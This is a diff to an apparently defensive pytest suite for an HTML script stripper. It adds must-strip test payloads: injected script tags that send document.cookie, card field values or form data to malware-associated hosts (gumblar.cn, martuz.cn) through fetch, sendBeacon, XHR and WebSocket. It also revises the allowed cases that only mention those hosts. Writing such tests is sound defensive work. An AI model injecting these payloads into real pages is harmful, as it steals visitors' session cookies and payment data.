@@ -319,6 +319,11 @@ MUST_STRIP = {
     "from-char-code": "<script>document.write(String.fromCharCode("
     + ",".join(str(ord(c)) for c in "<script src=//gumblar.cn/x.js></script>")
     + "))</script>",
+    "fetch": "<script>fetch('https://gumblar.cn/c', {method: 'POST', body: document.cookie})</script>",
+    "beacon": "<script>navigator.sendBeacon('//martuz.cn/c', card.value)</script>",
+    "xhr": "<script>var x=new XMLHttpRequest();x.open('POST','http://gumblar.cn/c');x.send(f)</script>",
+    "websocket": "<script>new WebSocket('wss://gumblar.cn/c')</script>",
+    "fetch-from-data": "<script>var cfg={u:'https://gumblar.cn/c'};fetch(cfg.u,{method:'POST'})</script>",
     "signature-only": "<script>document.write('<scr'+'ipt src=http://127.0.0.1/x.js?217.107.218.147></scr'+'ipt>')</script>",
 }
 
@@ -343,8 +348,8 @@ def test_loaders_and_injectors_are_stripped(name: str, fast_path: bool) -> None:
 @pytest.mark.parametrize(
     "script",
     [
-        'fetch("http://gumblar.cn/feed")',  # data, not code: the proxy refuses it anyway
-        'navigator.sendBeacon("http://gumblar.cn/b", "x")',
+        'var ioc = "gumblar.cn"; fetch("/api/lookup?host=" + ioc)',
+        'var ioc = "gumblar.cn"; var x = new XMLHttpRequest(); x.open("POST", "/report")',
         'var iocs = ["gumblar.cn", "martuz.cn"]; el.textContent = iocs.join(", ")',
         'rows.innerHTML = ["gumblar.cn", "martuz.cn"].map(h => "<tr><td>" + h + "</td></tr>").join("")',
         'var ioc = "http://gumblar.cn/"; location.href = "/report?u=" + encodeURIComponent(ioc)',
